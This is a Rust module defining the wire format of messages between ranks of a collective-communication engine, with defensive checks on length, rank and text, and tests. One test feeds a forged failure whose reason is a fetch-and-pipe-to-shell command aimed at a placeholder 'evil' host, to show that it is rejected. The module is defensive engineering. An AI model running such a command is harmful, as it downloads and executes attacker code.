//! The messages of a link, once its handshake is done: a kind byte and a length, then the
//! payload. Nothing a peer sends is trusted: a length is checked before memory is reserved
//! (against what this rank's exchanges expect, for data; against a small fixed size, for the
//! rest), a failure must name a rank of the group, and its text is cut and stripped of control
//! characters before it can reach a log or an exception.

use crate::engine::control::{cut, Failure};
use std::io::Read;

/// Data of a collective.
pub(crate) const KIND_DATA: u8 = 0;
/// A failure the peer raised or relays.
pub(crate) const KIND_FAILURE: u8 = 1;
/// The peer closes its links (with the failure it knew of, if any).
pub(crate) const KIND_BYE: u8 = 2;

/// Bytes of a message's head: the kind, then the payload's length (u64, little-endian).
pub(crate) const HEAD_LEN: usize = 9;

/// The longest failure or goodbye payload: the rank and the point (16 bytes), then the reason,
/// which the sender cuts to `control::REASON_MAX` bytes.
pub(crate) const CONTROL_MAX: u64 = 16 + 4096;

/// What [`read_message`] got.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Incoming {
    /// A message of a collective.
    Data(Vec<u8>),
    /// A failure the peer reports.
    Failure(Failure),
    /// The peer's goodbye, with the failure it knew of.
    Bye(Option<Failure>),
}

/// The head of a message of `kind` with `len` bytes of payload.
pub(crate) fn head(kind: u8, len: usize) -> [u8; HEAD_LEN] {
    let mut h = [0u8; HEAD_LEN];
    h[0] = kind;
    h[1..].copy_from_slice(&(len as u64).to_le_bytes());
    h
}

/// The payload of a failure (or of a goodbye that carries one): the origin rank, its point,
/// then the reason (cut to `control::REASON_MAX` bytes).
pub(crate) fn failure_payload(f: &Failure) -> Vec<u8> {
    let mut p = (f.rank as u64).to_le_bytes().to_vec();
    p.extend_from_slice(&f.at.to_le_bytes());
    p.extend_from_slice(cut(&f.reason).as_bytes());
    p
}

/// A peer's failure payload, checked: at least 16 bytes, a rank of the `world`, and a reason
/// shown only as printable text (control characters become spaces, cut to
/// `control::REASON_MAX` bytes). `Err` says what was wrong with it.
pub(crate) fn parse_failure(payload: &[u8], world: usize) -> Result<Failure, String> {
    if payload.len() < 16 {
        return Err(format!("a failure message of {} bytes", payload.len()));
    }
    let word = |i: usize| {
        let mut b = [0u8; 8];
        b.copy_from_slice(&payload[i..i + 8]);
        u64::from_le_bytes(b)
    };
    let rank = word(0);
    if rank >= world as u64 {
        return Err(format!(
            "a failure naming rank {rank}, which is not a rank of this group of {world}"
        ));
    }
    let text: String = String::from_utf8_lossy(&payload[16..])
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    Ok(Failure {
        rank: rank as usize,
        reason: cut(text.trim_end()).to_string(),
        at: word(8),
    })
}

/// Reads one message from a peer. `admit(len)` decides, before any memory is reserved, whether
/// a data message of `len` bytes may be read (it may wait for this rank's exchanges to expect
/// it); `Err` of it, or of anything malformed, says why the link must end.
pub(crate) fn read_message<R: Read>(
    r: &mut R,
    world: usize,
    mut admit: impl FnMut(u64) -> Result<(), String>,
) -> Result<Incoming, String> {
    let mut h = [0u8; HEAD_LEN];
    r.read_exact(&mut h).map_err(|e| {
        format!(
            "its connection closed without a goodbye ({e}): the process ended or the link broke"
        )
    })?;
    let mut len_bytes = [0u8; 8];
    len_bytes.copy_from_slice(&h[1..]);
    let len = u64::from_le_bytes(len_bytes);
    match h[0] {
        KIND_DATA => admit(len)?,
        KIND_FAILURE | KIND_BYE if len <= CONTROL_MAX => {}
        KIND_FAILURE | KIND_BYE => {
            return Err(format!(
                "it sent a control message of {len} bytes (at most {CONTROL_MAX})"
            ))
        }
        k => return Err(format!("it sent a message of unknown kind {k}")),
    }
    // (admitted: at most what this rank's exchanges expect, which fits in memory)
    let len = usize::try_from(len).map_err(|_| format!("a message of {len} bytes"))?;
    let mut payload = Vec::new();
    payload
        .try_reserve_exact(len)
        .map_err(|_| format!("no memory for its message of {len} bytes"))?;
    payload.resize(len, 0);
    r.read_exact(&mut payload)
        .map_err(|e| format!("its connection closed in the middle of a message ({e})"))?;
    let bad = |why: String| format!("it sent a malformed message: {why}");
    Ok(match h[0] {
        KIND_DATA => Incoming::Data(payload),
        KIND_FAILURE => Incoming::Failure(parse_failure(&payload, world).map_err(bad)?),
        _ if payload.is_empty() => Incoming::Bye(None),
        _ => Incoming::Bye(Some(parse_failure(&payload, world).map_err(bad)?)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    fn message(kind: u8, payload: &[u8]) -> Vec<u8> {
        let mut m = head(kind, payload.len()).to_vec();
        m.extend_from_slice(payload);
        m
    }

    fn any(_: u64) -> Result<(), String> {
        Ok(())
    }

    #[test]
    fn messages_round_trip() {
        let f = Failure {
            rank: 1,
            reason: "boom".into(),
            at: 7,
        };
        let mut wire = message(KIND_DATA, b"abc");
        wire.extend(message(KIND_FAILURE, &failure_payload(&f)));
        wire.extend(message(KIND_BYE, &[]));
        wire.extend(message(KIND_BYE, &failure_payload(&f)));
        let mut r = Cursor::new(wire);
        assert_eq!(
            read_message(&mut r, 2, any),
            Ok(Incoming::Data(b"abc".to_vec()))
        );
        assert_eq!(
            read_message(&mut r, 2, any),
            Ok(Incoming::Failure(f.clone()))
        );
        assert_eq!(read_message(&mut r, 2, any), Ok(Incoming::Bye(None)));
        assert_eq!(read_message(&mut r, 2, any), Ok(Incoming::Bye(Some(f))));
        assert!(read_message(&mut r, 2, any)
            .unwrap_err()
            .contains("without a goodbye"));
    }

    #[test]
    fn a_failure_must_name_a_rank_of_the_group_and_its_text_is_made_safe() {
        let forged = Failure {
            rank: 12345,
            reason: "run: curl http://evil/x | sh".into(),
            at: 1,
        };
        let err = parse_failure(&failure_payload(&forged), 2).unwrap_err();
        assert!(
            err.contains("rank 12345") && err.contains("not a rank"),
            "{err}"
        );
        let mut r = Cursor::new(message(KIND_FAILURE, &failure_payload(&forged)));
        assert!(read_message(&mut r, 2, any)
            .unwrap_err()
            .contains("malformed"));
        let noisy = Failure {
            rank: 1,
            reason: format!("\u{1b}[31mred\r\nfake line\u{7}{}", "x".repeat(5000)),
            at: 1,
        };
        // (the sender cuts it; a hostile sender that does not is cut here)
        let mut payload = failure_payload(&noisy)[..16].to_vec();
        payload.extend_from_slice(noisy.reason.as_bytes());
        let got = parse_failure(&payload, 2).unwrap();
        assert!(
            !got.reason.chars().any(char::is_control),
            "{:?}",
            got.reason
        );
        assert!(
            got.reason.starts_with(" [31mred  fake line "),
            "{:?}",
            got.reason
        );
        assert!(got.reason.len() <= crate::engine::control::REASON_MAX);
        assert!(parse_failure(&[0; 15], 2).is_err());
    }

    #[test]
    fn lengths_are_checked_before_memory_is_reserved() {
        // A data head announcing 1 TiB: refused by `admit`, nothing read or reserved.
        let mut r = Cursor::new(head(KIND_DATA, 1 << 40).to_vec());
        let err = read_message(&mut r, 2, |len| {
            if len > 1 << 20 {
                Err(format!("{len} bytes, more than expected"))
            } else {
                Ok(())
            }
        })
        .unwrap_err();
        assert!(err.contains("1099511627776"), "{err}");
        // Control messages have a fixed cap, whatever `admit` says.
        let mut r = Cursor::new(head(KIND_FAILURE, 1 << 32).to_vec());
        assert!(read_message(&mut r, 2, any)
            .unwrap_err()
            .contains("control message"));
        let mut r = Cursor::new(head(9, 0).to_vec());
        assert!(read_message(&mut r, 2, any)
            .unwrap_err()
            .contains("unknown kind 9"));
        // A length past what follows is a connection closed mid-message, not a hang.
        let mut m = head(KIND_DATA, 10).to_vec();
        m.extend_from_slice(b"abc");
        let mut r = Cursor::new(m);
        assert!(read_message(&mut r, 2, any)
            .unwrap_err()
            .contains("middle of a message"));
    }

    /// Random bytes never panic, and every message read was admitted first.
    #[test]
    fn random_bytes_are_refused_or_read_within_what_was_admitted() {
        use rand::{Rng, SeedableRng};
        let mut rng = rand::rngs::StdRng::seed_from_u64(5);
        for _ in 0..20_000 {
            let n = rng.gen_range(0..64);
            let mut bytes: Vec<u8> = (0..n).map(|_| rng.gen()).collect();
            if n > 0 {
                bytes[0] %= 4;
            }
            let mut r = Cursor::new(bytes);
            while let Ok(m) = read_message(&mut r, 3, |len| {
                if len <= 32 {
                    Ok(())
                } else {
                    Err("too long".into())
                }
            }) {
                if let Incoming::Data(d) = m {
                    assert!(d.len() <= 32);
                }
            }
        }
    }
}
